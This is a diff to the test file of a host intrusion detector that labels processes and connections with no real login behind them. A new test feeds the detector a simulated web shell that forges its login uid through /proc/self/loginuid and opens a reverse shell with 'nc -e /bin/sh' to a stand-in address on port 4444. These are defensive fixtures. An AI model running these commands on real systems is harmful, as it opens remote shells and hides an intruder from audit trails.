@@ -205,7 +205,8 @@ t.test("the template miner reaches Drain's published accuracy on loghub", async 
 });
 
 t.test('a process no login is behind (auid −1) carries that fact, one a login or an unknown auid does not', async (t) => {
-  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
+  // a fresh extractor for each row: one process's rows in turn would be a login uid written (review9)
+  const x = () => new FeatureExtractor({ users: new UidMap(), overrides: {} });
   const row = (auid: string | undefined): ResultRow => ({
     query: 'pack_hids_process_events',
     host: 'edge-web',
@@ -214,6 +215,52 @@ t.test('a process no login is behind (auid −1) carries that fact, one a login 
     columns: { pid: '4100', parent: '950', path: '/usr/bin/id', cmdline: 'id', uid: '33', euid: '33', ...(auid === undefined ? {} : { auid }) },
     decorations: {},
   });
-  for (const auid of ['4294967295', '-1']) t.ok(x.extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${auid}: ${NO_LOGIN}`);
-  for (const auid of ['33', '1003', '', undefined]) t.notOk(x.extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${String(auid)}: nothing said`);
+  for (const auid of ['4294967295', '-1']) t.ok(x().extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${auid}: ${NO_LOGIN}`);
+  for (const auid of ['33', '1003', '', undefined]) t.notOk(x().extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${String(auid)}: nothing said`);
+});
+
+t.test('a login uid a process no login is behind wrote itself is no login: its children, its own later rows, after a restart (review9)', async (t) => {
+  // any process whose login uid is unset may write /proc/self/loginuid once, to any uid, with
+  // no privilege (kernel/auditsc.c audit_set_loginuid_perm); only a privileged process with
+  // none of its own (sshd-session, login, cron's fork running pam_loginuid) sets a login's
+  let at = 1_790_000_000;
+  const exec = (pid: string, parent: string, path: string, cmdline: string, uid: string, auid: string, euid = uid): ResultRow => ({
+    query: 'pack_hids_process_events',
+    host: 'edge-web',
+    time: (at += 5),
+    action: 'added',
+    columns: { pid, parent, path, cmdline, uid, euid, auid },
+    decorations: {},
+  });
+  const connect = (pid: string, auid: string): ResultRow => ({
+    query: 'pack_hids_socket_events',
+    host: 'edge-web',
+    time: (at += 5),
+    action: 'added',
+    columns: { pid, path: '/usr/bin/nc', action: 'connect', remote_address: '203.0.113.9', remote_port: '4444', family: '2', auid },
+    decorations: {},
+  });
+  const unset = '4294967295';
+  const noLogin = (x: FeatureExtractor, row: ResultRow) => x.extract(row).event.values.includes(NO_LOGIN);
+  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
+  t.ok(noLogin(x, exec('5000', '950', '/bin/sh', "sh -c 'echo 33 > /proc/self/loginuid; nc …'", '33', unset)), 'the web shell: auid unset');
+  t.ok(noLogin(x, exec('5010', '5000', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444', '33', '33')), 'its child, auid 33 written by the shell: no login');
+  t.ok(noLogin(x, connect('5010', '33')), "the child's connection");
+  t.ok(noLogin(x, connect('5000', '33')), "the shell's own connection after it wrote its login uid");
+  t.ok(noLogin(x, exec('5000', '950', '/usr/bin/id', 'id', '33', '33')), 'the shell replaced by another program (exec in place)');
+  // a set-uid program between them passes on what it was given: newgrp runs the shell in place
+  t.ok(noLogin(x, exec('5020', '5010', '/usr/bin/newgrp', 'newgrp www-data', '33', '33', '0')), 'a set-uid program the writer started');
+  t.ok(noLogin(x, exec('5020', '5010', '/bin/sh', 'sh', '33', '33')), "and the shell it became, whose children's login uid it did not set");
+  t.ok(noLogin(x, exec('5030', '5020', '/usr/bin/id', 'id', '33', '33')), '…nor theirs');
+  // what a restart keeps: process_events reports each process once
+  const y = FeatureExtractor.fromState(JSON.parse(JSON.stringify(x.toState())), { users: new UidMap(), overrides: {} });
+  t.ok(noLogin(y, exec('5040', '5010', '/usr/bin/uname', 'uname -a', '33', '33')), 'after a restart, a child of the process that wrote it');
+  t.ok(noLogin(y, connect('5000', '33')), 'after a restart, the writer itself');
+  // a login: sshd-session (root, none of its own) runs pam_loginuid, then the user's shell
+  const z = FeatureExtractor.fromState(JSON.parse(JSON.stringify(x.toState())), { users: new UidMap(), overrides: {} });
+  t.ok(noLogin(z, exec('6000', '612', '/usr/lib/openssh/sshd-session', 'sshd-session: ops [priv]', '0', unset)), 'sshd-session itself has none');
+  t.notOk(noLogin(z, exec('6010', '6000', '/bin/bash', '-bash', '1003', '1003')), "the login shell sshd-session's pam_loginuid set: a login");
+  t.notOk(noLogin(z, exec('6020', '6010', '/usr/bin/id', 'id', '1003', '1003')), "the session's commands");
+  t.notOk(noLogin(z, connect('6010', '1003')), "the session's connections");
+  t.notOk(noLogin(z, exec('6030', '7777', '/usr/bin/id', 'id', '33', '33')), 'a parent never seen: nothing said');
 });
